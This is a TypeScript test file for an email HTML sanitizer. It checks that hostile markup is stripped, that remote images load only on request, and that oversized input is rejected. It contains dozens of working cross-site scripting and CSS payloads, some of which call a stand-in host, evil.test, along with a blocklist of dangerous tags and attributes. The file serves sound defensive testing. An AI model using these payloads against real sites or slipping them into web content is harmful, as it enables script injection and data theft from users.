import fc from 'fast-check';
import sanitize from 'sanitize-html';
import { describe, expect, it } from 'vitest';
import { hasRemoteImages, safeHtml } from '../../../src/desk/mails/index.ts';

const images = (source: string) => (source === 'logo@x' ? '/files/logo' : null);
const safe = (html: string) => safeHtml(html, { images, remote: false });
const withRemote = (html: string) => safeHtml(html, { images, remote: true });

/** Everything in HTML that could run, load, submit or leave its place; of the text, nothing. */
function dangersIn(html: string): string[] {
  const found: string[] = [];
  const tags = new Set<string>();
  sanitize(html, {
    allowedTags: false, allowedAttributes: false, allowVulnerableTags: true,
    onOpenTag: (name, attributes) => {
      tags.add(name);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (/^on|^srcdoc$|^action$|^formaction$|^id$|^name$|^class$|^srcset$|^ping$|^xlink/i.test(attribute)) found.push(attribute);
        if (attribute === 'href' && !/^(https?:\/\/|mailto:|tel:)/.test(value)) found.push(`href ${value}`);
        if (attribute === 'href' && attributes['rel'] !== 'noopener noreferrer nofollow') found.push('rel');
        if (attribute === 'src' && !/^(\/files\/|data:image\/(png|jpeg|gif|webp);base64,)/.test(value)) found.push(`src ${value}`);
        if (attribute === 'background') found.push('background');
        if (attribute === 'style' && /url|image-set|expression|position|behaviou?r|import|binding|\\|\/\*|@|fixed|absolute/i.test(value)) found.push(`style ${value}`);
      }
    },
  });
  const dangerous = ['script', 'style', 'link', 'meta', 'base', 'iframe', 'frame', 'object', 'embed', 'applet', 'form', 'input', 'button', 'select',
    'textarea', 'svg', 'math', 'video', 'audio', 'source', 'picture', 'template', 'noscript', 'title', 'xmp', 'plaintext', 'noembed', 'noframes', 'marquee', 'dialog'];
  return [...found, ...dangerous.filter((tag) => tags.has(tag))];
}

const hostile: [what: string, html: string][] = [
  ['a script', 'a<script>alert(1)</script>'],
  ['a script in capitals with an attribute', 'a<SCRIPT SRC=//evil.test/x.js></SCRIPT>'],
  ['a script in a script', 'a<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script with a slash', 'a<script/x>alert(1)</script/x>'],
  ['a script that never ends', 'a<script>alert(1)'],
  ['an event handler', '<img src=x onerror=alert(1) alt=a>'],
  ['an event handler behind slashes', '<p/onclick=alert(1)/onfocus="x">a</p>'],
  ['an event handler in odd quotes', '<p title="a"onclick="alert(1)">a</p>'],
  ['an event handler behind a NUL', 'a<p on\u0000click=alert(1)>b</p>'],
  ['an attribute behind a quote in a value', `<img alt="a'><img src=x onerror=alert(1)>" src='x'>`],
  ['javascript: in a link', '<a href="javascript:alert(1)">a</a>'],
  ['javascript: in capitals and spaces', '<a href="  \t\n JaVaScRiPt:alert(1)">a</a>'],
  ['javascript: with a tab inside', '<a href="jav&#x09;ascript:alert(1)">a</a>'],
  ['javascript: with ends of lines', '<a href="java\r\nscript\n:alert(1)">a</a>'],
  ['javascript: in entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>'],
  ['javascript: in entities without semicolons', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">a</a>'],
  ['javascript: with a named colon', '<a href="javascript&colon;alert(1)">a</a>'],
  ['javascript: behind a control character', '<a href="\u0001javascript:alert(1)">a</a>'],
  ['vbscript:', '<a href="vbscript:msgbox(1)">a</a>'],
  ['data: in a link', '<a href="data:text/html,<script>alert(1)</script>">a</a>'],
  ['blob: and file:', '<a href="blob:https://x/1">a</a><a href="file:///etc/passwd">b</a>'],
  ['a link to our own interface', '<a href="/api/agents">a</a><a href="../x">b</a><a href="?x">c</a><a href="//evil.test">d</a>'],
  ['a link that opens over ours', '<a href="https://a.test" target="_top" rel="opener">a</a>'],
  ['a link in an area', 'a<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap=#m src=x>'],
  ['a link in a drawing', 'a<svg><a xlink:href="javascript:alert(1)"><text y=20>b</text></a></svg>'],
  ['a form', 'a<form action="https://evil.test"><input name=p type=password><button formaction="javascript:alert(1)">b</button></form>'],
  ['a frame', 'a<iframe src="https://evil.test"></iframe><frameset><frame src=javascript:alert(1)></frameset>'],
  ['a frame with a page in it', 'a<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', 'a<object data="javascript:alert(1)"><param name=x></object><embed src="//evil.test/x.swf"><applet code=x></applet>'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">a'],
  ['a base', '<base href="https://evil.test/">a<a href="x">b</a>'],
  ['a style sheet', '<link rel=stylesheet href="https://evil.test/x.css"><style>@import "https://evil.test/x.css"; p{position:fixed}</style><p>a</p>'],
  ['a style that never ends', 'a<style>p{background:url(https://evil.test)}'],
  ['a style that leaves its place', '<p style="position:fixed;top:0;left:0;z-index:9;color:red">a</p>'],
  ['a style that leaves its place by an escape', '<p style="p\\6f sition:fixed">a</p>'],
  ['a style that leaves its place by a comment', '<p style="posi/**/tion:fixed;/*">a</p>'],
  ['a style in entities', '<p style="&#112;osition&#58;absolute">a</p>'],
  ['a style with an address', '<p style="background:url(https://evil.test/t.gif)">a</p><p style="list-style:url(//evil.test)">b</p><p style="content:url(x)">c</p>'],
  ['a style with an address by an escape', '<p style="background:u\\72l(https://evil.test/t.gif)">a</p>'],
  ['a style with image-set', '<p style="background-image:image-set(\'https://evil.test/t.gif\' 1x)">a</p>'],
  ['a style with a cursor', '<p style="cursor:url(https://evil.test/c.cur),auto">a</p>'],
  ['a style with an expression', '<p style="width:expression(alert(1))">a</p><p style="behavior:url(x.htc);-moz-binding:url(x)">b</p>'],
  ['a style with a variable', '<p style="--x:url(https://evil.test);background:var(--x)">a</p>'],
  ['a style that ends its attribute', `<p style='color:red"onclick="alert(1)'>a</p>`],
  ['a style that opens a quote', `<p style="font-family:'a;position:fixed;b:'">a</p>`],
  ['a style that moves over its neighbours', '<p style="margin-top:-900px;transform:translate(0,-900px)">a</p>'],
  ['a drawing that runs', 'a<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>'],
  ['a drawing with a foreign part', 'a<svg><foreignObject><iframe srcdoc="<script>1</script>"></iframe></foreignObject></svg>'],
  ['a drawing with a style in it', 'a<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['a formula with a style in it', 'a<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
  ['a formula in a form', 'a<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['a formula with an annotation', 'a<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>'],
  ['a noscript with a title', 'a<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['noembed, noframes and xmp', 'a<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed><xmp><p title="</xmp><script>1</script>"></xmp>'],
  ['a textarea in a title', 'a<textarea><title></textarea><img src=x onerror=alert(1)></title>'],
  ['a select', 'a<select><option>&lt;script&gt;alert(1)&lt;/script&gt;</option><style></select><img src=x onerror=alert(1)></style>'],
  ['a template', 'a<template><script>alert(1)</script></template>'],
  ['a comment that ends early', 'a<!--><img src=x onerror=alert(1)>-->'],
  ['a comment that ends with a !', 'a<!-- --!><img src=x onerror=alert(1)> -->'],
  ['a comment for one browser', 'a<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['CDATA', 'a<![CDATA[<script>alert(1)</script><img src=x onerror=alert(1)>]]>'],
  ['CDATA in a drawing', 'a<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)>"></svg>'],
  ['a processing instruction', 'a<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>'],
  ['a document type', '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>a&x;'],
  ['unclosed tags', 'a<p<div onclick=alert(1)<b title="'],
  ['a tag that is cut off', 'a<img src="x" onerror="alert(1)"'],
  ['markup in entities', 'a&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;script&amp;gt;'],
  ['markup in an attribute', '<p title="<script>alert(1)</script>">a</p>'],
  ['data: of a drawing', 'a<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt=x><img src="data:text/html,<script>1</script>" alt=y>'],
  ['a picture from here', 'a<img src="/api/agents" alt=x><img src="http:/api" alt=y><img src="C:\\x.png" alt=z>'],
  ['media', 'a<video src=//evil.test poster=//evil.test/p.gif autoplay><source src=//evil.test></video><audio src=//evil.test onplay=1>'],
  ['names that hide what scripts look for', 'a<a id=cookie name=body>b</a><img name=getElementById src=x alt=c>'],
  ['prototype names', 'a<p __proto__=1 constructor=2 hasOwnProperty=3><__proto__>b</__proto__><constructor>c</constructor></p>'],
  ['a dialog over all', 'a<dialog open popover>b</dialog><marquee onstart=alert(1)>c</marquee>'],
  ['letters that look like others', 'a<\u017fcript>alert(1)</\u017fcript><img src=x on\uff45rror=alert(1)>'],
  ['tags of another writing', 'a\u00bcscript\u00bealert(1)\u00bc/script\u00be+ADw-script+AD4-alert(1)'],
];

describe('hostile HTML', () => {
  it.each(hostile)('%s does nothing', (_what, html) => {
    for (const shown of [safe(html), withRemote(html)]) {
      expect(dangersIn((shown ?? '').replaceAll(/(src|background)="https:[^"]*"|url\(&quot;https:[^)]*\)/g, ''))).toEqual([]);
    }
    expect(dangersIn(safe(html) ?? '')).toEqual([]);
  });

  it.each(hostile)('%s asks nobody for anything unless pictures are wanted', (_what, html) => {
    expect(safe(html) ?? '').not.toMatch(/(src|background|url)[^>]*evil\.test/);
  });

  it.each(hostile.filter(([, html]) => html.startsWith('a') && !/never ends|style in it|comment that ends/.test(html)))('%s keeps the words before it', (_what, html) => {
    expect(safe(html)).toMatch(/^a/);
  });

  it('is found to be hostile by this very check', () => {
    const harmless = new Set(['an event handler behind a NUL', 'an attribute behind a quote in a value', 'CDATA', 'a processing instruction', 'a document type',
      'unclosed tags', 'a tag that is cut off', 'markup in entities', 'markup in an attribute', 'tags of another writing', 'letters that look like others', 'prototype names',
      'a style that moves over its neighbours', 'a comment that ends early', 'a comment for one browser', 'a comment that ends with a !', 'a script in a script', 'a style that ends its attribute']);
    expect(hostile.filter(([what, html]) => !harmless.has(what) && dangersIn(html).length === 0).map(([what]) => what)).toEqual([]);
  });

  it('stays as it is when it is made safe again, whatever it is', () => {
    const pieces = fc.constantFrom(...hostile.map(([, html]) => html), '<', '>', '"', "'", '&', '<!--', '-->', '</', '<p ', ' x="', '<svg>', '</style>', '<table>', 'palabras');
    fc.assert(fc.property(fc.array(pieces, { maxLength: 6 }), (parts) => {
      const once = safe(parts.join(''));
      return dangersIn(once ?? '').length === 0 && (once === null || (safe(once) ?? '') === once);
    }), { numRuns: 300 });
  });
});

describe('ordinary HTML', () => {
  it('keeps what makes a mail readable', () => {
    const html = '<table width="600" cellpadding="4" bgcolor="#fff"><tr><td style="color:rgb(10, 20, 30); font-family:\'Segoe UI\', Arial, sans-serif; text-align: center" colspan="2">'
      + '<h1>Hola</h1><ul><li>uno</li></ul><blockquote>cita</blockquote><pre>x  y</pre></td></tr></table>';
    expect(safe(html)).toBe('<table width="600" cellpadding="4" bgcolor="#fff"><tr><td colspan="2" style="color:rgb(10, 20, 30);font-family:\'Segoe UI\', Arial, sans-serif;text-align:center">'
      + '<h1>Hola</h1><ul><li>uno</li></ul><blockquote>cita</blockquote><pre>x  y</pre></td></tr></table>');
  });

  it('shows a whole page by its body, and nothing of its head', () => {
    expect(safe('<html><head><title>t</title><style>p{}</style></head><body bgcolor="#eee"><p>Hola</p></body></html>')).toBe('<div bgcolor="#eee"><p>Hola</p></div>');
  });

  it('keeps links, which open elsewhere and tell nobody', () => {
    expect(safe('<a href="HTTPS://Example.org/a?b=1&amp;c=2" onclick="x">a</a><a href="mailto:ana@example.org">b</a><a href="tel:+57300">c</a>')).toBe(
      ['https://example.org/a?b=1&amp;c=2">a', 'mailto:ana@example.org">b', 'tel:+57300">c']
        .map((link) => `<a href="${link.replace('">', '" target="_blank" rel="noopener noreferrer nofollow">')}</a>`).join(''));
  });

  it.each([['nothing', ''], ['spaces', ' \n&nbsp;<p>\u200b</p>'], ['only what is taken away', '<script>1</script><!-- x -->'], ['a picture of nothing', '<p><img src="https://t.test/p.gif"></p>']])(
    'that shows %s is none', (_what, html) => expect(safe(html)).toBeNull());
});

describe('pictures', () => {
  it('that came with the mail are shown from here', () => {
    expect(safe('<img src="cid:logo@x" alt="Logo"><img src="CID:logo%40x"><img src="cid:%zz" alt="?">')).toBe(
      '<img alt="Logo" src="/files/logo" referrerpolicy="no-referrer" /><img src="/files/logo" referrerpolicy="no-referrer" /><img alt="?" />');
  });

  const elsewhere: [what: string, html: string, shown: RegExp][] = [
    ['a picture', '<p>a<img src="http://t.test/p.gif" width="1" height="1"></p>', /src="https:\/\/t\.test\/p\.gif"/],
    ['a picture without a scheme', '<p>a<img src="//t.test/p.gif"></p>', /src="https:\/\/t\.test\/p\.gif"/],
    ['a picture behind a table', '<table background="https://t.test/b.gif"><tr><td>a</table>', /background="https:\/\/t\.test\/b\.gif"/],
    ['a picture behind a text', '<p style="background:#fff url(\'https://t.test/b.gif\') no-repeat">a</p>', /url\(&quot;https:\/\/t\.test\/b\.gif&quot;\)/],
    ['a picture of several sizes', '<p>a<img src="https://t.test/p.gif" srcset="https://t.test/p2.gif 2x"></p>', /src="https:\/\/t\.test\/p\.gif"/],
  ];
  it.each(elsewhere)('from elsewhere (%s) are loaded only when they are wanted', (_what, html, shown) => {
    expect(safe(html)).not.toContain('t.test');
    expect(withRemote(html)).toMatch(shown);
    expect(hasRemoteImages(html)).toBe(true);
  });

  it('from elsewhere leave their words', () => {
    expect(safe('<img src="https://t.test/p.gif" alt="Plano">')).toBe('<img alt="Plano" />');
  });

  it.each(['<p>a</p>', '<img src="cid:logo@x">', '<a href="https://t.test/p.gif">a</a>', '<img src="data:image/png;base64,AAAA">', ''])('%s asks for none', (html) => {
    expect(hasRemoteImages(html)).toBe(false);
  });

  it('inside the mail are bounded and of kinds that only show', () => {
    const embedded = (type: string, length: number) => `<img src="data:image/${type};base64,${'A'.repeat(length)}" alt="x">`;
    for (const type of ['png', 'jpeg', 'gif', 'webp']) expect(safe(embedded(type, 400))).toContain(`src="data:image/${type};base64,`);
    for (const html of [embedded('svg+xml', 40), embedded('png', 300_000), '<img src="data:image/png,%89PNG" alt="x">']) expect(safe(html)).toBe('<img alt="x" />');
  });
});

describe('too much HTML', () => {
  it.each([
    ['long', 'a'.repeat(1024 * 1024 + 1)], ['deep', '<div>'.repeat(501)], ['deep in what is not shown', '<o:p>'.repeat(501)],
    ['made of elements', '<br>'.repeat(200_000)], ['made of signs', '<'.repeat(1_000_000)], ['made of entities', `a${'&amp;'.repeat(200_000)}`],
  ])('is not shown: %s', (_what, html) => expect(safe(html)).toBeNull());

  it('is not what people send', () => {
    expect(safe(`${'<div>'.repeat(490)}a`)).toContain('a');
    expect(safe('<p>palabras</p>'.repeat(40_000))).toHaveLength(600_000);
  });

  it('takes no time that grows with its square', () => {
    const begun = performance.now();
    for (const html of ['<p style="background:', 'url( '.repeat(700), `"><a ${'a=1 '.repeat(100_000)}>`, '<!--'.repeat(200_000), '<p title="'.repeat(90_000), '</p>'.repeat(200_000)]) safe(`a${html}`);
    expect(performance.now() - begun).toBeLessThan(10_000);
  });
});
